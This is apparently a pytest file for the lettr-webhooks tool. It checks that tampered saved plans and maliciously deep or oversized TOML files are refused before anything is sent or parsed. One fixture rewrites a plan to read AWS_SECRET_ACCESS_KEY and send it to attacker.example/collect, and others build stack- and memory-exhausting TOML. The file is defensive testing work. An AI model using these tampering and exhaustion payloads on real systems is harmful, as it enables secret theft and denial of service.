"""Hostile plans and hostile files (issue 19, items 2 and 3).

A saved plan is a review artifact: each tampering from the issue is applied by
the real ``lettr-webhooks`` process (``python -m lettr_async apply plan.json``)
against a threaded FakeLettr and refused with nothing sent; the plan itself is
made in-process, which is cheaper and writes the same file. Malicious TOML (deep
dotted keys, deep arrays and tables, oversized files) is refused by a cheap scan
before ``tomllib`` sees it: the files here would exhaust memory or the stack.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import FrameType
from typing import Any

import attrs
import pytest

from lettr_async import declarative
from lettr_async.declarative import (
    Action,
    Change,
    ConfigError,
    Plan,
    PlanError,
    load_config,
    parse_config,
)
from lettr_async.testing import FakeLettr
from tests.cli._helpers import invoke_cli
from tests.helpers import API_KEY, make_client, writes

from ._util import ENV, load, write_config

HOST = "https://shop.example.com"
TIMEOUT = 60
Tamper = Callable[[dict[str, Any], dict[str, Any], Path], None]


def _orders(document: dict[str, Any]) -> dict[str, Any]:
    (change,) = [c for c in document["resource_changes"] if c["name"] == "shop-orders"]
    assert isinstance(change, dict)
    return change


def _delete_outside_ownership(document: dict[str, Any], other: dict[str, Any], _: Path) -> None:
    assert document["prune"] is False
    document["resource_changes"].insert(
        0,
        {
            "address": f'live["{other["id"]}"]',
            "matched_by": "ownership",
            "id": other["id"],
            "name": other["name"],
            "url": other["url"],
            "change": {
                "actions": ["delete"],
                "before": other,
                "after": None,
                "changed_fields": [],
                "credentials": {"send": False, "reason": None},
            },
            "config": None,
        },
    )
    document["summary"]["delete"] += 1


def _update_another_id(document: dict[str, Any], other: dict[str, Any], _: Path) -> None:
    change = _orders(document)
    change["id"] = other["id"]
    change["change"]["before"] = other


def _steal_a_secret(document: dict[str, Any], _: dict[str, Any], __: Path) -> None:
    change = _orders(document)
    change["config"]["credentials"]["auth_password"] = {"env": "AWS_SECRET_ACCESS_KEY"}
    change["url"] = change["change"]["after"]["url"] = "https://attacker.example/collect"


def _lock_elsewhere(document: dict[str, Any], _: dict[str, Any], tmp_path: Path) -> None:
    document["lock_file"] = str(tmp_path / "victim.json")


@pytest.mark.parametrize(
    ("tamper", "expected"),
    [
        (_delete_outside_ownership, "is not what lettr-webhooks.toml plans now"),
        (_update_another_id, "is not what lettr-webhooks.toml plans now"),
        (_steal_a_secret, "reads environment variable AWS_SECRET_ACCESS_KEY, which"),
        (_lock_elsewhere, "names a lock file that is not beside its config file"),
    ],
    ids=["delete-outside-ownership", "update-another-id", "steal-a-secret", "lock-elsewhere"],
)
def test_a_tampered_saved_plan_is_refused_and_nothing_is_sent(
    fake_thread: FakeLettr,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    tamper: Tamper,
    expected: str,
) -> None:
    fake_thread.add_webhook(name="shop-orders", url=f"{HOST}/hooks/orders", events=["open"])
    other = fake_thread.add_webhook(name="team-b-billing", url="https://team-b.example/billing")
    victim = tmp_path / "victim.json"
    victim.write_text("precious\n")
    monkeypatch.chdir(tmp_path)
    write_config(tmp_path)
    made = invoke_cli(fake_thread.base_url, "plan", "-out", "plan.json", env=ENV)
    assert made.exit_code == 0, made.output
    document = json.loads((tmp_path / "plan.json").read_text())
    (live_other,) = [w for w in document["live_state"]["webhooks"] if w["id"] == other["id"]]
    tamper(document, live_other, tmp_path)
    (tmp_path / "plan.json").write_text(json.dumps(document))

    env = {k: v for k, v in os.environ.items() if not k.startswith("LETTR_")}
    env.update(ENV, LETTR_BASE_URL=fake_thread.base_url, LETTR_API_KEY=API_KEY)
    env["AWS_SECRET_ACCESS_KEY"] = "aws-secret-value-123"
    result = subprocess.run(
        [sys.executable, "-m", "lettr_async", "apply", "plan.json"],
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        env=env,
        cwd=tmp_path,
        check=False,
    )
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stderr.startswith("error: ")
    assert expected in result.stderr
    assert "Traceback" not in result.stderr
    assert writes(fake_thread) == []
    assert victim.read_text() == "precious\n"
    assert "aws-secret-value-123" not in result.stdout + result.stderr


def _saved(plan: Plan) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(plan.to_json())
    return document


@pytest.mark.anyio
async def test_python_apply_of_an_edited_saved_plan_sends_nothing(
    fake: FakeLettr, tmp_path: Path
) -> None:
    write_config(tmp_path)
    desired = load(tmp_path / "lettr-webhooks.toml")
    async with make_client(fake) as client:
        document = _saved(await declarative.plan(client, desired))
        document["resource_changes"][0]["change"]["after"]["enabled"] = False
        edited = Plan.from_dict(document, env=ENV)
        with pytest.raises(ConfigError, match="is not what") as info:
            await declarative.apply(client, edited)
    assert "resource_changes[" in " ".join(info.value.errors["plan"])
    assert writes(fake) == []


@pytest.mark.anyio
async def test_apply_enforces_the_rules_on_any_plan(fake: FakeLettr, tmp_path: Path) -> None:
    ours = fake.add_webhook(name="shop-orders", url=f"{HOST}/hooks/orders", events=["open"])
    theirs = fake.add_webhook(name="team-b-billing", url="https://team-b.example/billing")
    desired = load(write_config(tmp_path))
    async with make_client(fake) as client:
        plan = await declarative.plan(client, desired)
        (update,) = [c for c in plan.changes if c.webhook_id == ours["id"]]
        assert update.action is Action.UPDATE
        victim = next(w for w in plan.live if w.id == theirs["id"])
        delete = Change(Action.DELETE, "x", "ownership", victim.id, victim, None)
        retargeted = attrs.evolve(update, webhook_id=theirs["id"], before=victim)
        for changes, message in [
            ((delete,), "the plan was made without prune"),
            ((retargeted,), "which the entry does not match"),
        ]:
            with pytest.raises(PlanError) as info:
                await declarative.apply(client, attrs.evolve(plan, changes=changes))
            assert message in " ".join(m for ms in info.value.errors.values() for m in ms)
        pruning = attrs.evolve(plan, changes=(delete,), prune=True)
        with pytest.raises(PlanError, match="breaks the rules") as info:
            await declarative.apply(client, pruning)
        assert "outside the file's [ownership]" in " ".join(info.value.errors["x"])
    assert writes(fake) == []


# -- malicious TOML: bounded before parsing, every failure a ConfigError --------------------

DEEP = {
    "dotted-key-50k": "a" + ".a" * 50_000 + " = 1\n",
    "table-header-50k": "[" + "a." * 50_000 + "a]\n",
    "arrays-5k": "x = " + "[" * 5_000 + "]" * 5_000 + "\n",
    "inline-tables-5k": "x = " + "{a=" * 5_000 + "1" + "}" * 5_000 + "\n",
    "events-5k": '[[webhooks]]\nname = "a"\nurl = "https://a.example"\nevents = '
    + "[" * 5_000
    + "]" * 5_000
    + "\n",
}


@pytest.mark.parametrize("text", list(DEEP.values()), ids=list(DEEP))
def test_deep_toml_is_refused_before_parsing(text: str) -> None:
    with pytest.raises(ConfigError, match="refused before parsing") as info:
        parse_config(text, source="deep.toml", env={})
    (message,) = info.value.errors["deep.toml"]
    assert "more than 32" in message


def test_an_oversized_file_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    path = tmp_path / "big.toml"
    path.write_text("# padding\n" * 200_000)  # 2 MB of valid TOML
    with pytest.raises(ConfigError, match="refused before parsing") as info:
        load_config(path, env={})
    assert info.value.errors[str(path)] == ["is larger than 1048576 bytes."]


def test_strings_and_comments_do_not_count_toward_the_bounds() -> None:
    brackets = "[" * 40
    text = (
        f"# {'.' * 40} {brackets}\n"
        "[[webhooks]]\n"
        f'name = "{brackets}"\n'
        f"url = 'https://a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z.a.b.c.d.e.f.g.h.i.example/{brackets}'\n"
    )
    (hook,) = parse_config(text, env={}).webhooks
    assert hook.name == brackets


def test_a_recursion_error_while_parsing_is_a_config_error() -> None:
    depth = 0
    frame: FrameType | None = sys._getframe()
    while frame is not None:
        depth, frame = depth + 1, frame.f_back
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(depth + 30)  # within the bounds, but deeper than the stack allows
    try:
        with pytest.raises(ConfigError, match="not valid TOML") as info:
            parse_config("x = " + "[" * 30 + "]" * 30, source="s.toml", env={})
    finally:
        sys.setrecursionlimit(limit)
    assert info.value.errors["s.toml"] == ["too deep to parse (RecursionError)."]


def test_cli_reports_a_deep_file_as_one_json_error(
    fake_thread: FakeLettr, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "lettr-webhooks.toml").write_text(DEEP["events-5k"])
    result = invoke_cli(fake_thread.base_url, "--json", "plan")
    assert result.exit_code == 2
    error = json.loads(result.stdout)["error"]
    assert error["exit_code"] == 2
    assert "nests arrays or tables more than 32 deep" in error["message"]
    assert fake_thread.requests == []
